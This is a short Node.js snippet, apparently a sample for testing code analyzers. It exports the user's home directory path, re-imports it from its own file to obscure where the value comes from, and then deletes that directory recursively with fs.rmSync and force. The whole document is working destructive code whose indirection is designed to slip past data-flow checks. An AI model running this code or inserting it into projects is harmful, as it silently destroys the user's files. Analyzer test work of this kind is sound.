// The value travels through the module's own exports.
const fs = require('fs');
module.exports.base = require('os').homedir();
const { base } = require(__filename);
fs.rmSync(base, { recursive: true, force: true });
